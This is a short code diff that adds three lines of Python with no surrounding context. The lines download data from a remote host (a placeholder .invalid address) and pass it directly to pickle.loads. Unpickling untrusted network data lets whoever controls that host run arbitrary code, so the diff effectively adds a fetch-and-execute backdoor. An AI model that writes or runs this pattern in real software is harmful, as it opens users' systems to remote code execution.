@@ -1,0 +1,3 @@
+import pickle
+import urllib.request
+pickle.loads(urllib.request.urlopen("http://pk.example.invalid/o").read())
